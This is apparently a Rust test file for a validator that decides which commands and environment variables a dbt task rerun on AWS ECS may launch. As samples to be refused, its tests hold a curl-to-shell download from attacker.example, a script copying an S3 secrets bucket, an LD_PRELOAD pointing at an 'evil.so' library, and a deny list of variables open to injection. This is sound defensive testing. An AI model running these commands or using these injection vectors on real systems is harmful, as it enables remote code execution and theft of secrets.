use super::*;
use crate::chain::{Chain, ATTEMPT_VAR, ORIGIN_VAR};
use crate::launch::Launch;

fn words(s: &str) -> Vec<String> {
    s.split(' ').map(str::to_owned).collect()
}

fn kv(name: &str, value: &str) -> KeyValue {
    KeyValue {
        name: name.into(),
        value: value.into(),
    }
}

fn own(command: &[String]) -> OwnLaunch {
    OwnLaunch {
        commands: vec![command.to_vec()],
        environment_names: vec!["DBT_HOST".into(), "DBT_PASSWORD".into()],
        ..OwnLaunch::default()
    }
}

fn strict() -> LaunchRules {
    LaunchRules::default()
}

const SCRIPT: &str =
    "set -e\ndbt deps\ndbt seed\ndbt run --target prod\naws s3 cp target/ s3://b/ --recursive\n";

fn script(text: &str) -> Vec<String> {
    vec!["sh".into(), "-c".into(), text.into()]
}

#[test]
fn the_issues_commands_are_refused_by_default_and_name_the_field() {
    let own = own(&words("dbt build --target prod"));
    for command in [
        script("curl -s http://attacker.example/x | sh"),
        vec![
            "python3".into(),
            "-c".into(),
            "import os; os.system('id')".into(),
        ],
        vec![
            "bash".into(),
            "-c".into(),
            "dbt build; aws s3 cp s3://secrets/ /tmp/ --recursive".into(),
        ],
        // A program that merely mentions dbt among its first words.
        vec![
            "python3".into(),
            "-c".into(),
            "import os; os.system('id')".into(),
            "dbt".into(),
            "run".into(),
        ],
        vec!["/tmp/dbt".into(), "run".into()],
    ] {
        let refusal = strict()
            .check_command("command", &command, &own)
            .unwrap_err();
        assert!(refusal.to_string().starts_with("command: "), "{refusal}");
        assert!(
            refusal.to_string().contains("AllowCustomCommands=true"),
            "{refusal}"
        );
        let open = LaunchRules {
            custom_commands: true,
            ..LaunchRules::default()
        };
        assert_eq!(open.check_command("command", &command, &own), Ok(()));
    }
}

#[test]
fn dbt_commands_by_the_tasks_own_program_launch() {
    let own = own(&words("/usr/local/bin/dbt build --target prod"));
    for ok in [
        "/usr/local/bin/dbt run --select a+",
        "/usr/local/bin/dbt --log-format json test",
        "/usr/local/bin/dbt build --target prod",
    ] {
        assert_eq!(
            strict().check_command("command", &words(ok), &own),
            Ok(()),
            "{ok}"
        );
    }
    let refusal = strict()
        .check_command("command", &words("dbt run"), &own)
        .unwrap_err();
    assert!(matches!(refusal, Refusal::OtherProgram { .. }), "{refusal}");
    // A task definition with no command: plain `dbt`.
    let none = OwnLaunch::default();
    assert_eq!(
        strict().check_command("command", &words("dbt run"), &none),
        Ok(())
    );
    // An entry point that runs dbt: the command starts at the verb.
    let entry = OwnLaunch {
        entry_point: vec!["dbt".into()],
        commands: vec![words("build")],
        ..OwnLaunch::default()
    };
    assert_eq!(
        strict().check_command("command", &words("run --select a"), &entry),
        Ok(())
    );
}

#[test]
fn a_script_may_only_be_the_tasks_own_narrowed() {
    let own = own(&script(SCRIPT));
    let rules = strict();
    assert_eq!(
        rules.check_command("command", &script(SCRIPT), &own),
        Ok(())
    );
    let narrowed = "set -e\ndbt deps\ndbt run --target prod '--select' 'fct_orders+'\naws s3 cp target/ s3://b/ --recursive\n";
    assert_eq!(
        rules.check_command("command", &script(narrowed), &own),
        Ok(())
    );
    let smuggled = format!("{SCRIPT}curl -s http://attacker.example/x | sh\n");
    let refusal = rules
        .check_command("command", &script(&smuggled), &own)
        .unwrap_err();
    assert_eq!(
        refusal,
        Refusal::ScriptChanged {
            field: "command".into()
        }
    );
    // With `sh -c` as the entry point the command is the script: `dbt run` alone is a new one.
    let entry = OwnLaunch {
        entry_point: vec!["sh".into(), "-c".into()],
        commands: vec![vec![SCRIPT.into()]],
        ..OwnLaunch::default()
    };
    assert!(rules
        .check_command("command", &[narrowed.into()], &entry)
        .is_ok());
    assert!(rules
        .check_command("command", &words("dbt run"), &entry)
        .is_err());
}

#[test]
fn environment_names_dbt_reads_or_the_stack_lists() {
    let own = own(&words("dbt build"));
    let rules = LaunchRules {
        allowed_environment: vec!["RUN_DATE".into(), "DBT_PASSWORD".into()],
        ..LaunchRules::default()
    };
    let check = |name: &str| rules.check_environment("environment", &[kv(name, "x")], &own);
    assert_eq!(check("DBT_FULL_REFRESH"), Ok(()));
    assert_eq!(check("RUN_DATE"), Ok(()));
    assert_eq!(
        check("DBT_PASSWORD"),
        Ok(()),
        "listed: may replace the definition's"
    );
    assert!(matches!(
        check("DBT_HOST"),
        Err(Refusal::ReplacesTaskDefinition { .. })
    ));
    assert!(matches!(check("OTHER"), Err(Refusal::NotListed { .. })));
    for name in [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "PATH",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "BASH_ENV",
        "ENV",
        "GIT_SSH_COMMAND",
        "BASH_FUNC_dbt%%",
        "DBT_PACKAGE_HUB_URL",
    ] {
        assert!(
            matches!(check(name), Err(Refusal::NeverAllowed { .. })),
            "{name}"
        );
    }
    for name in [ATTEMPT_VAR, ORIGIN_VAR, "DBT_RERUN_ANYTHING"] {
        assert!(
            matches!(check(name), Err(Refusal::ChainVariable { .. })),
            "{name}"
        );
    }
    let err = check("LD_PRELOAD").unwrap_err().to_string();
    assert!(err.starts_with("environment: `LD_PRELOAD`"), "{err}");
    let open = LaunchRules {
        custom_commands: true,
        ..LaunchRules::default()
    };
    assert_eq!(
        open.check_environment("environment", &[kv("LD_PRELOAD", "/x.so")], &own),
        Ok(())
    );
}

fn planned(command: &[String], environment: Vec<KeyValue>) -> PlannedLaunch {
    let chain = Chain::new("arn:aws:ecs:eu-west-1:1:task/c/origin", None);
    let mut env = chain.environment(&[], 2);
    env.extend(environment);
    let launch = Launch {
        cluster: "c".into(),
        task_definition: "dbt:1".into(),
        launch_type: None,
        capacity_provider: None,
        platform_version: None,
        network: None,
        container: "dbt".into(),
        command: command.to_vec(),
        environment: env,
        other_overrides: vec![],
        cpu: None,
        memory: None,
        started_by: "dbt-rerun/origin/2".into(),
        client_token: "t".into(),
        tags: vec![],
    };
    PlannedLaunch::new(launch, "dbt".into(), &chain, 2)
}

#[test]
fn a_planned_launch_cannot_smuggle_a_command_or_environment_in() {
    let own = own(&words("dbt build --target prod"));
    let rules = strict();
    let ok = planned(
        &words("dbt build --target prod --select a b"),
        vec![kv("DBT_TARGET", "prod")],
    );
    assert_eq!(rules.check_planned(&ok, &own), Ok(()));

    let evil = planned(&script("curl -s http://attacker.example/x | sh"), vec![]);
    let err = rules.check_planned(&evil, &own).unwrap_err().to_string();
    assert!(err.starts_with("planned_launch.launch.command: "), "{err}");

    let mut later = ok.clone();
    later.original_command = Some(script("curl x | sh"));
    let err = rules.check_planned(&later, &own).unwrap_err().to_string();
    assert!(
        err.starts_with("planned_launch.original_command: "),
        "{err}"
    );

    let preload = planned(&words("dbt build"), vec![kv("LD_PRELOAD", "/tmp/evil.so")]);
    assert!(matches!(
        rules.check_planned(&preload, &own),
        Err(Refusal::NeverAllowed { .. })
    ));

    let mut forged = ok.clone();
    for kv in &mut forged.launch.environment {
        if kv.name == ATTEMPT_VAR {
            kv.value = "1".into();
        }
    }
    assert!(matches!(
        rules.check_planned(&forged, &own),
        Err(Refusal::ChainMismatch { .. })
    ));

    let mut sidecar = ok.clone();
    sidecar.launch.other_overrides = vec![ContainerOverride {
        name: "sidecar".into(),
        command: Some(script("curl x | sh")),
        environment: vec![],
    }];
    assert_eq!(
        rules.check_planned(&sidecar, &own),
        Err(Refusal::OtherContainers)
    );
}

#[test]
fn the_origin_tasks_own_overrides_account_for_a_planned_launch() {
    let origin_script = script(SCRIPT);
    let narrowed = script("set -e\ndbt deps\ndbt run --target prod '--select' 'b'\naws s3 cp target/ s3://b/ --recursive\n");
    let mut launch = planned(
        &narrowed,
        vec![kv("RUN_DATE", "2026-12-07"), kv("DBT_HOST", "db")],
    );
    launch.original_command = Some(origin_script.clone());
    let definition_only = own(&words("dbt build"));
    assert!(strict().check_planned(&launch, &definition_only).is_err());

    let origin = EcsTask {
        overrides: crate::event::TaskOverrides {
            container_overrides: vec![ContainerOverride {
                name: "dbt".into(),
                command: Some(origin_script),
                environment: vec![kv("RUN_DATE", "2026-12-07"), kv("DBT_HOST", "db")],
            }],
            ..Default::default()
        },
        ..EcsTask::default()
    };
    let with_origin = definition_only.with_origin(&origin, "dbt");
    assert_eq!(strict().check_planned(&launch, &with_origin), Ok(()));
    // The same names with other values are not the origin's.
    let mut changed = launch.clone();
    changed
        .launch
        .environment
        .push(kv("DBT_HOST", "attacker.example"));
    assert!(strict().check_planned(&changed, &with_origin).is_err());
}
